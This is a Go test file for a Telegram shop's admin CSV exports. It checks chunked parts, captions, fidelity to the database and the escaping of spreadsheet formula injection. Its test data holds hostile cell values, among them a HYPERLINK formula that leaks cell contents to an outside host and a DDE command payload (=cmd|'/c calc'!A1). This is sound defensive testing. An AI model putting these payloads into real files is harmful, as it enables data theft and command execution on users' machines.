package sending_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"atlas-secure/internal/obs"
	"atlas-secure/internal/sandbox/botapi/person"
	"atlas-secure/internal/worker"
	"atlas-secure/tests/contract/desk"
)

// hostile is what people may have written, and what stands for it in a cell.
var hostile = map[string]string{
	"=1+1":                               "'=1+1",
	`=HYPERLINK("http://x/?"&A1,"open")`: `'=HYPERLINK("http://x/?"&A1,"open")`,
	"+7 900 000-00-00":                   "'+7 900 000-00-00",
	"-5":                                 "'-5",
	"@SUM(A1)":                           "'@SUM(A1)",
	"\t=1":                               "'\t'=1",
	"\r=1":                               "'\r'=1",
	"＝1+1":                               "'＝1+1",
	`a,b "c" 'd'`:                        `a,b "c" 'd'`,
	"one\ntwo;three":                     "one\ntwo;three",
	"one\n- two":                         "one\n'- two",
	"x;=cmd|'/c calc'!A1":                "x;'=cmd|'/c calc'!A1",
	"\u202egnp.exe \u2066Анна\u2069 🦊": "\u202egnp.exe \u2066Анна\u2069 🦊",
	"\\N": "\\N",
	" ":   " ",
	"'":   "'",
	"1=1": "1=1",
}

// exports is the shop of a test: an admin in Telegram, and people with hostile names, notes and books.
type exports struct {
	*bundle

	boss *person.Person
}

func setupExports(t *testing.T) *exports {
	t.Helper()
	x := &exports{bundle: setup(t)}
	x.boss = x.crowd(1)[0]
	x.One("account.grant_admin", desk.A{"p_telegram_id": x.boss.ID, "p_note": "test"})
	x.owner.Query("update account.account set username = 'boss'")
	return x
}

// grow adds users with two ledger rows each.
func (x *exports) grow(n int) {
	x.Helper()
	x.growFrom(0, n)
}

func (x *exports) growFrom(first, n int) {
	x.Helper()
	from := firstUser + 1000 + first
	x.owner.Query(`insert into account.account (telegram_id, username, language, referral_code, registered_at)
		select u, 'user_' || u, 'ru', 'c' || u, core.now() from generate_series($1::bigint, $2) u`, from, from+n-1)
	x.owner.Query(`insert into wallet.wallet (telegram_id, available_kopecks, version)
		select u, 300, 2 from generate_series($1::bigint, $2) u`, from, from+n-1)
	x.owner.Query(`insert into ledger.transfer (telegram_id, version, debit_account, credit_account, reason, amount_kopecks,
			available_kopecks, held_kopecks, debt_kopecks, created_at, actor_id, note)
		select u, v, 'adjustment', 'available', 'admin_credit', 100 * v, 100 * v * (v + 1) / 2, 0, 0, core.now(), $3, 'note ' || u || '.' || v
		from generate_series($1::bigint, $2) u cross join generate_series(1, 2) v`, from, from+n-1, x.boss.ID)
}

func (x *exports) ask(kind string, batch any) int {
	x.Helper()
	asked := x.One("ops.request_export", desk.A{"p_admin_id": x.boss.ID, "p_kind": kind, "p_batch_id": batch,
		"p_idempotency_key": fmt.Sprint(kind, time.Now().UnixNano())})
	require.Equal(x, false, asked["is_replay"])
	return asked["export_id"].(int)
}

func (x *exports) state(id int) desk.Row {
	x.Helper()
	return x.owner.Query("select outcome::text as outcome, parts, rows_sent, attempt, last_error from ops.export where export_id = $1", id)[0]
}

// job is the worker's, in a process of its own.
func (x *exports) job(options worker.ExportOptions, change ...func(*process, *worker.Exports, *worker.Courier)) worker.Job {
	x.Helper()
	p := x.process(wide())
	var books worker.Exports = p.db.Ops
	var courier worker.Courier = p.messenger
	for _, each := range change {
		each(p, &books, &courier)
	}
	return worker.Export(books, p.db.Account, courier, obs.Discard(), options)
}

func (x *exports) run(ctx context.Context, job worker.Job) error {
	_, err := job(ctx, worker.Batch{Holder: worker.Holder(), Limit: 1, IsStopping: func() bool { return false }})
	return err
}

// file is one that came into the chat.
type file struct {
	name, caption string
	content       []byte
	part          string
	rows          [][]string // without the header
}

var partForm = regexp.MustCompile(`-part-(\d+)\.csv$`)

// files are those that came, in their order. Each is proper CSV with the same header.
func (x *exports) files() []file {
	x.Helper()
	view, err := x.boss.Chat(x.Context())
	require.NoError(x, err)
	var found []file
	for _, m := range view.Messages {
		if m.Document == nil {
			continue
		}
		f := file{name: m.Document.FileName, caption: m.Caption, part: partForm.FindStringSubmatch(m.Document.FileName)[1]}
		f.content, err = x.boss.File(x.Context(), m.Document.FileID)
		require.NoError(x, err)
		text, hasMark := bytes.CutPrefix(f.content, []byte("\ufeff"))
		require.True(x, hasMark, "a byte order mark")
		require.True(x, bytes.HasSuffix(text, []byte("\r\n")))
		f.rows, err = csv.NewReader(bytes.NewReader(text)).ReadAll()
		require.NoError(x, err)
		require.Contains(x, [][]string{usersHeader, ledgerHeader, subscriptionsHeader, codesHeader}, f.rows[0])
		f.rows = f.rows[1:]
		found = append(found, f)
	}
	return found
}

var (
	usersHeader = strings.Split("telegram_id,username,language,registered_at,is_reachable,is_blocked,blocked_at,blocked_reason,is_vip,"+
		"discount_percent,discount_expires_at,referrer_id,available_kopecks,held_kopecks,debt_kopecks,tariff,subscription_expires_at", ",")
	subscriptionsHeader = strings.Split("telegram_id,username,tariff,period,started_at,expires_at,auto_renew,activation", ",")
	ledgerHeader        = strings.Split("transfer_id,telegram_id,version,created_at,reason,debit_account,credit_account,amount_kopecks,available_kopecks,"+
		"held_kopecks,debt_kopecks,purchase_id,payment_id,withdrawal_id,actor_id,note", ",")
	codesHeader = strings.Split("code,discount_percent,max_uses,per_user_limit,expires_at,is_active,is_used", ",")
)

// column is all of one column.
func column(rows [][]string, header []string, name string) []string {
	var cells []string
	for i, each := range header {
		if each == name {
			for _, row := range rows {
				cells = append(cells, row[i])
			}
		}
	}
	return cells
}

// TestExportsAreWhatTheDatabaseHas, whatever people have called themselves.
func TestExportsAreWhatTheDatabaseHas(t *testing.T) {
	x := setupExports(t)
	id := firstUser
	want := map[string]string{}
	for raw, cell := range hostile {
		id++
		x.User(id)
		x.owner.Query("update account.account set username = $2, blocked_reason = $2 where telegram_id = $1", id, raw)
		x.One("wallet.credit", desk.A{"p_telegram_id": id, "p_amount_kopecks": 149_00, "p_admin_id": x.boss.ID, "p_note": raw, "p_idempotency_key": "k"})
		want[fmt.Sprint(id)] = strings.ReplaceAll(cell, "\r\n", "\n") // a reader of CSV does that
	}
	x.Buy(id, "basic", 1, "k")
	codes := x.All("promo.issue_batch", desk.A{"p_admin_id": x.boss.ID, "p_count": 3, "p_discount_percent": 10, "p_max_uses": 1,
		"p_per_user_limit": 1, "p_expires_at": nil, "p_idempotency_key": "k"})
	job := x.job(worker.ExportOptions{PageRows: 3})
	for kind, batch := range map[string]any{"users": nil, "subscriptions": nil, "ledger": nil, "promo_batch": codes[0]["batch_id"]} {
		export := x.ask(kind, batch)
		require.NoError(t, x.run(t.Context(), job))
		require.Equal(t, "done", x.state(export)["outcome"], kind)
	}
	byName := map[string]file{}
	for _, f := range x.files() {
		byName[strings.Split(f.name, time.Now().UTC().Format("-2006-"))[0]] = f
	}
	require.Len(t, byName, 4)

	users := byName["atlas-users"]
	require.Regexp(t, `^atlas-users-\d{4}-\d\d-\d\d-part-1\.csv$`, users.name)
	require.Regexp(t, fmt.Sprintf(`(?s)^📄 all users, part 1\nRows: %[1]d\nRead from .* to .*\nThis is the last part. Rows in all: %[1]d\.$`, len(hostile)+1), users.caption)
	require.Len(t, users.rows, len(hostile)+1)
	for i, id := range column(users.rows, usersHeader, "telegram_id")[1:] {
		require.Equal(t, want[id], column(users.rows, usersHeader, "username")[1:][i])
		require.Equal(t, want[id], column(users.rows, usersHeader, "blocked_reason")[1:][i])
	}
	ledger := byName["atlas-ledger"]
	stored := x.owner.Query(`select transfer_id::text, telegram_id::text, version::text, to_char(created_at at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS"Z"') as at,
		reason::text, debit_account::text, credit_account::text, amount_kopecks::text, available_kopecks::text, held_kopecks::text, debt_kopecks::text,
		coalesce(purchase_id::text, '') as purchase, coalesce(actor_id::text, '') as actor, note from ledger.transfer order by telegram_id, version`)
	require.Len(t, ledger.rows, len(stored))
	for i, row := range stored {
		var note string
		if row["note"] != nil {
			note = want[row["telegram_id"].(string)]
		}
		var cells []any
		for _, cell := range ledger.rows[i] {
			cells = append(cells, cell)
		}
		require.Equal(t, []any{row["transfer_id"], row["telegram_id"], row["version"], row["at"], row["reason"], row["debit_account"], row["credit_account"],
			row["amount_kopecks"], row["available_kopecks"], row["held_kopecks"], row["debt_kopecks"], row["purchase"], "", "", row["actor"], note}, cells)
	}
	require.Contains(t, ledger.caption, "The books are those of ")
	require.Equal(t, []string{fmt.Sprint(id)}, column(byName["atlas-subscriptions"].rows, subscriptionsHeader, "telegram_id"))
	batch := byName[fmt.Sprintf("atlas-promo-batch-%d", codes[0]["batch_id"])]
	require.Equal(t, []string{codes[0]["code"].(string), codes[1]["code"].(string), codes[2]["code"].(string)}, column(batch.rows, codesHeader, "code"))
	for _, f := range byName {
		for _, row := range x.owner.Query("select vpn_uuid::text as secret from subscription.subscription union all select referral_code from account.account") {
			require.NotContains(t, string(f.content), row["secret"])
		}
	}
	x.Reconciled()
}

// rowsOnce demands that the parts have every row of the ledger once, in order, but for parts that came twice.
func (x *exports) rowsOnce(files []file) {
	x.Helper()
	last := map[string]file{}
	order := []string{}
	for _, f := range files {
		if _, isThere := last[f.part]; !isThere {
			order = append(order, f.part)
		}
		last[f.part] = f
	}
	var got []string
	for i, part := range order {
		require.Equal(x, fmt.Sprint(i+1), part)
		for _, row := range last[part].rows {
			got = append(got, row[1]+"."+row[2])
		}
	}
	var want []string
	for _, row := range x.owner.Query("select telegram_id || '.' || version as name from ledger.transfer order by telegram_id, version") {
		want = append(want, row["name"].(string))
	}
	require.Equal(x, want, got)
}

func TestExportInParts(t *testing.T) {
	x := setupExports(t)
	x.grow(300)
	const most = 5000
	export := x.ask("ledger", nil)
	require.NoError(t, x.run(t.Context(), x.job(worker.ExportOptions{PartBytes: most, PageRows: 7})))
	files := x.files()
	require.Greater(t, len(files), 10)
	x.rowsOnce(files)
	sum := 0
	for i, f := range files {
		require.LessOrEqual(t, len(f.content), most)
		require.Greater(t, len(f.content), most/2*(len(files)-1-i)/len(files), "parts are full, but for the last")
		sum += len(f.rows)
		if i < len(files)-1 {
			require.Contains(t, f.caption, fmt.Sprintf("part %d\nRows: %d\n", i+1, len(f.rows)))
			require.Contains(t, f.caption, "More parts follow.")
		}
	}
	require.Contains(t, files[len(files)-1].caption, "This is the last part. Rows in all: 600.")
	require.Equal(t, desk.Row{"outcome": "done", "parts": len(files), "rows_sent": sum, "attempt": 1, "last_error": nil}, x.state(export))
}

// TestAnEmptyExportSaysSo.
func TestAnEmptyExportSaysSo(t *testing.T) {
	x := setupExports(t)
	x.ask("subscriptions", nil)
	require.NoError(t, x.run(t.Context(), x.job(worker.ExportOptions{})))
	require.Len(t, x.files(), 1)
	require.Empty(t, x.files()[0].rows)
	require.Contains(t, x.files()[0].caption, "Rows in all: 0.")
}
